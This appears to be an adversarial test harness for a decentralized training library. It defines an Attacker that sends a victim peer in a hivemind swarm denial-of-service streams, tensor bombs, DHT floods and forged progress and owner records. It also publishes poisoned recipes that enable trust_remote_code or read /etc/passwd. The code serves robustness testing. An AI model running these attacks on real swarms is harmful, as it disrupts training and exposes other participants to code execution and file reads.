"""An attacker: plain hivemind, an address, and what everybody can read about how a swarm works.

Nothing of trahiv is imported: what is tested is not used to test it.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import hashlib
import json
import math
import time
import zlib
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from hivemind.dht.crypto import RSASignatureValidator
from hivemind.dht.protocol import DHTProtocol
from hivemind.dht.routing import DHTID
from hivemind.dht.validation import DHTRecord
from hivemind.p2p import P2P, P2PDaemonError, P2PHandlerError, PeerID
from hivemind.proto import averaging_pb2, crypto_pb2, dht_pb2, runtime_pb2
from hivemind.utils import MSGPackSerializer, get_dht_time
from hivemind.utils.crypto import RSAPrivateKey

ANSWER_S = 20.0
NAMES = {
    "trahiv": ("CorrectedProtocol", "ExactGradientAverager", "ExactStateAverager"),
    "hivemind": ("DHTProtocol", "GradientAverager", "TrainingStateAverager"),
}


class Attacker:
    """Calls a victim's handlers with whatever it likes.

    Args:
        p2p: connected to the victim.
        victim: its id.
        run: its run.
        dialect: whose handlers it has.
        certificate: shown before each call.
        key: RSA key of the attacker's identity, by which it signs records.
    """

    def __init__(
        self,
        p2p: P2P,
        victim: PeerID,
        run: str,
        dialect: str,
        certificate: bytes,
        key: RSAPrivateKey,
    ) -> None:
        self.p2p, self.victim, self.run, self.dialect = p2p, victim, run, dialect
        self.certificate, self.key = certificate, key
        dht, grads, state = NAMES[dialect]
        self.dht = dht
        self.grads, self.state = f"{run}_grad_averager::{grads}", f"{run}_state_averager::{state}"

    async def call(self, handler: str, request: bytes) -> bytes:
        """Call a handler that takes one message."""
        answer = await self.p2p._client.call_unary_handler(self.victim, handler, self.certificate + request)
        return bytes(answer)

    async def stream(self, handler: str, *messages: bytes) -> bytes:
        """Open a stream, send messages, and return the first that comes back."""
        _, reader, writer = await self.p2p._client.stream_open(self.victim, [handler])
        try:
            writer.write(self.certificate)
            for message in messages:
                writer.write(P2P.MESSAGE_MARKER + len(message).to_bytes(8, "big") + message)
                await writer.drain()
            await P2P.send_protobuf(P2P.END_OF_STREAM, writer)
            kind = await reader.readexactly(1)
            length = int.from_bytes(await reader.readexactly(8), "big")
            content = await reader.readexactly(length)
        finally:
            writer.close()
        if kind == P2P.ERROR_MARKER:
            raise P2PHandlerError(content.decode(errors="replace"))
        return content

    # -- what a stranger tries ---------------------------------------------------------------------

    async def ping(self) -> None:
        """Say hello."""
        await self.call(f"{self.dht}.rpc_ping", dht_pb2.PingRequest().SerializeToString())

    async def read_records(self) -> None:
        """Ask for what is stored in the DHT."""
        request = dht_pb2.FindRequest(keys=[self._key()], peer=dht_pb2.NodeInfo())
        await self.call(f"{self.dht}.rpc_find", request.SerializeToString())

    async def take_the_state(self) -> None:
        """Download weights."""
        if self.dialect == "hivemind":
            await self.stream(
                f"{self.state}.rpc_download_state", averaging_pb2.DownloadRequest().SerializeToString()
            )
            return
        offer = averaging_pb2.DownloadData.FromString(
            await self.call(f"{self.state}.rpc_offer_state", _data([0, b""], 0))
        )
        _, digest = MSGPackSerializer.loads(offer.metadata)
        await self.stream(f"{self.state}.rpc_send_state", _data(digest, 0, 1))

    async def join_a_group(self) -> None:
        """Ask to be averaged with."""
        request = averaging_pb2.JoinRequest(schema_hash=b"x", expiration=get_dht_time() + 60)
        await self.stream(f"{self.grads}.rpc_join_group", request.SerializeToString())

    async def send_a_part(self) -> None:
        """Send something to be averaged."""
        part = averaging_pb2.AveragingData(
            code=averaging_pb2.PART_FOR_AVERAGING, group_id=b"x", weight=1e6, tensor_part=_bomb()
        )
        await self.stream(f"{self.grads}.rpc_aggregate_part", part.SerializeToString())

    async def claim_10_tb(self) -> None:
        """Begin a message that is longer than any memory."""
        _, reader, writer = await self.p2p._client.stream_open(
            self.victim, [f"{self.grads}.rpc_aggregate_part"]
        )
        try:
            writer.write(self.certificate + P2P.MESSAGE_MARKER + (10**13).to_bytes(8, "big"))
            sent = 0
            while sent < 64 * 2**20:
                writer.write(bytes(2**20))
                await writer.drain()
                sent += 2**20
                if reader.at_eof():
                    break
            with contextlib.suppress(TimeoutError):  # the victim waits for more
                async with asyncio.timeout(3):
                    if await reader.read(1):
                        raise P2PHandlerError("the victim says something")
                raise P2PHandlerError("the stream was closed")
        finally:
            writer.close()

    # -- records -----------------------------------------------------------------------------------

    def _key(self, name: str = "progress") -> bytes:
        return DHTID.generate(source=f"{self.run}_{name}").to_bytes()

    async def store(
        self,
        value: Any,
        *,
        ttl_s: float = 60.0,
        key: bytes | None = None,
        place: bytes | None = None,
        signed: bool = True,
        raw: bytes | None = None,
    ) -> None:
        """Store a record at the victim.

        Raises:
            P2PHandlerError: it does not keep it.
        """
        validator = RSASignatureValidator(self.key)
        if place is None:
            place = validator.local_public_key
            if self.certificate:
                place += b"~" + base64.urlsafe_b64encode(self.certificate).rstrip(b"=")
        expires = get_dht_time() + ttl_s
        record = DHTRecord(
            key or self._key(), MSGPackSerializer.dumps(place), raw or MSGPackSerializer.dumps(value), expires
        )
        request = dht_pb2.StoreRequest(
            keys=[record.key],
            subkeys=[record.subkey],
            values=[validator.sign_value(record) if signed else record.value],
            expiration_time=[expires],
            in_cache=[False],
            peer=dht_pb2.NodeInfo(),
        )
        answer = dht_pb2.StoreResponse.FromString(
            await self.call(f"{self.dht}.rpc_store", request.SerializeToString())
        )
        if not answer.store_ok or not answer.store_ok[0]:
            raise P2PHandlerError("the record was not kept")

    def report(self, **changed: Any) -> dict[str, Any]:
        """A progress record like those of others, except for what is `changed`."""
        plain = {
            "peer_id": self.p2p.peer_id.to_bytes(),
            "epoch": 0,
            "samples_accumulated": 0,
            "samples_per_second": 1.0,
            "time": get_dht_time(),
            "client_mode": True,
        }
        ours = {"samples_committed": 0, "history": bytes(16), "client_mode": False}
        ours |= {"leases": [], "rounds": b"", "states": b""}
        return plain | (ours if self.dialect == "trahiv" else {}) | changed

    async def claim_endless_samples(self) -> None:
        """Say that this peer has brought all samples of the step, wherever the others are."""
        lie = {"samples_accumulated": 10**9, "samples_per_second": 1e30}
        if self.dialect == "trahiv":
            theirs = [told for told in await self.read("progress") if isinstance(told, dict)]
            theirs.sort(key=lambda report: report["epoch"])
            lie |= {name: theirs[-1][name] for name in ("epoch", "samples_committed", "history")}
        await self.store(self.report(**lie))

    async def read(self, name: str) -> list[Any]:
        """Read what others store under a key of the run."""
        request = dht_pb2.FindRequest(keys=[self._key(name)], peer=dht_pb2.NodeInfo())
        answer = dht_pb2.FindResponse.FromString(
            await self.call(f"{self.dht}.rpc_find", request.SerializeToString())
        )
        found = DHTProtocol.serializer.loads(answer.results[0].value)
        validator = RSASignatureValidator(self.key)
        values = []
        for place, entry in found.items():
            record = DHTRecord(
                self._key(name), MSGPackSerializer.dumps(place), entry.value, entry.expiration_time
            )
            values.append(MSGPackSerializer.loads(validator.strip_value(record)))
        return values

    async def store_under_a_made_up_name(self) -> None:
        """Store a record that is signed well, of a peer that is no member."""
        own, self.key = self.key, RSAPrivateKey()
        try:
            await self.store(self.report(), place=RSASignatureValidator(self.key).local_public_key)
        finally:
            self.key = own

    async def decide_in_the_owner_s_place(self) -> None:
        """Take the victim out of its own swarm, in a record that comes after all of the owner's."""
        out = hashlib.sha256(self.victim.to_bytes()).digest()[:8]
        content = MSGPackSerializer.dumps([2**40, 0, out, b"", b""])
        signature = Ed25519PrivateKey.generate().sign(b"trahiv: the owner decides " + content)
        await self.store(signature + content, key=DHTID.generate(source="trahiv_policy").to_bytes())

    async def _publish_recipe(self, text: bytes) -> None:
        await self.store(zlib.compress(text, level=9), key=self._key("recipe"))

    async def _change_recipe(self, section: str, **changed: Any) -> None:
        """Publish the swarm's own recipe, but for some fields of a section."""
        [packed, *_] = await self.read("recipe")
        recipe = json.loads(zlib.decompress(packed))
        recipe["shared"][section] |= changed
        await self._publish_recipe(json.dumps(recipe).encode())

    async def store_records_of_made_up_peers(self) -> None:
        """Make the answer to who asks where others are too long: 18 peers, each under 8 names.

        What is kept has another peer's id in it, so it says nothing of where peers are.
        """
        own, kept = self.key, 0
        report = self.report(leases=[2**61 + number for number in range(64)])
        try:
            for _ in range(18):
                self.key = RSAPrivateKey()
                place = RSASignatureValidator(self.key).local_public_key
                for name in (place, *(place + b"%d" % number for number in range(7))):
                    with contextlib.suppress(P2PHandlerError):
                        await self.store(report, place=name)
                        kept += 1
        finally:
            self.key = own
        if kept < 18 * 8:
            raise P2PHandlerError(f"{kept} of {18 * 8} records were kept")

    async def store_10000_records(self) -> None:
        """Fill the victim's memory."""
        kept = 0
        began = time.monotonic()
        for number in range(10_000):
            try:
                await self.store(b"x" * 3000, key=DHTID.generate(source=f"{number}").to_bytes())
                kept += 1
            except (P2PHandlerError, P2PDaemonError):
                if number - kept > 50:
                    break
            if time.monotonic() - began > ANSWER_S:
                break
        if kept < number:
            raise P2PHandlerError(f"{kept} of {number + 1} records were kept")


def _data(*content: object) -> bytes:
    message = averaging_pb2.DownloadData(metadata=MSGPackSerializer.dumps(list(content)))
    return bytes(message.SerializeToString())


def _bomb() -> runtime_pb2.Tensor:
    """Eight bytes that say that they are 64 MB."""
    return runtime_pb2.Tensor(size=[1], dtype="(2000000,)f8", buffer=bytes(8))


STEP = {"epoch": 10**6, "samples_committed": 10**9, "history": b"\xff" * 16}

Attack = Callable[[Attacker], Awaitable[None]]

ATTACKS: dict[str, Attack] = {
    **{
        method.__name__: method
        for method in (
            *(Attacker.ping, Attacker.read_records, Attacker.take_the_state, Attacker.join_a_group),
            *(Attacker.send_a_part, Attacker.claim_10_tb, Attacker.claim_endless_samples),
            *(Attacker.store_under_a_made_up_name, Attacker.decide_in_the_owner_s_place),
            *(Attacker.store_records_of_made_up_peers, Attacker.store_10000_records),
        )
    },
    "write_a_record": lambda one: one.store(one.report()),
    "claim_step_1000000": lambda one: one.store(
        one.report(**(STEP if one.dialect == "trahiv" else {"epoch": STEP["epoch"]}))
    ),
    "claim_a_negative_step": lambda one: one.store(one.report(epoch=-1)),
    "claim_nan": lambda one: one.store(one.report(samples_per_second=math.nan)),
    "store_10_mb": lambda one: one.store(b"x" * 10**7),
    # nobody could ever overwrite it
    "store_for_a_year": lambda one: one.store(one.report(), ttl_s=365 * 86400.0),
    "store_under_another_s_key": lambda one: one.store(
        one.report(), place=RSASignatureValidator(RSAPrivateKey()).local_public_key
    ),
    "store_what_nobody_can_read": lambda one: one.store(None, raw=b"\xc1"),  # it is no MessagePack
    # where all members look for each other
    "store_without_a_signature": lambda one: one.store(
        b"mine", place=b"", signed=False, key=one._key("grad_averager.0b")
    ),
    # have newcomers run code from a hub, read a file of theirs, recurse until they fall over, unpack 100 MB
    "publish_a_recipe_with_code": lambda one: one._change_recipe("model", trust_remote_code=True),
    "publish_a_recipe_with_a_path": lambda one: one._change_recipe(
        "data", datasets=[{"path": "/etc/passwd"}]
    ),
    "publish_a_deep_recipe": lambda one: one._publish_recipe(b'{"v": 1, "shared": ' + b"[" * 10**5),
    "publish_a_recipe_that_grows": lambda one: one._publish_recipe(b'{"v": 1, "shared": ' + b" " * 2 * 10**6),
    "publish_a_recipe_of_100_mb": lambda one: one._publish_recipe(b" " * 10**8),
}


async def attack(
    address: str, run: str, dialect: str, key_file: str | None, certificate: bytes, names: list[str]
) -> AsyncIterator[tuple[str, str]]:
    """Make attacks, one after the other; yield what came of each: `answered`, or the error.

    Args:
        address: of the victim.
        run: its run.
        dialect: whose handlers it has, `trahiv` or `hivemind`.
        key_file: the attacker's identity; None: a new one.
        certificate: see `Attacker`.
        names: of `ATTACKS`.
    """
    p2p = await P2P.create(
        initial_peers=[address], dht_mode="client", no_listen=True, identity_path=key_file, auto_nat=False
    )
    key = RSAPrivateKey()
    if key_file is not None:
        with open(key_file, "rb") as file:
            key.__setstate__({"_private_key": crypto_pb2.PrivateKey.FromString(file.read()).data})
    attacker = Attacker(
        p2p, PeerID.from_base58(address.rpartition("/p2p/")[2]), run, dialect, certificate, key
    )
    try:
        for name in names:
            try:
                async with asyncio.timeout(2 * ANSWER_S):
                    await ATTACKS[name](attacker)
                yield name, "answered"
            except (P2PHandlerError, P2PDaemonError, TimeoutError, OSError, EOFError) as error:
                yield name, f"{type(error).__name__}: {error}"
    finally:
        await p2p.shutdown()
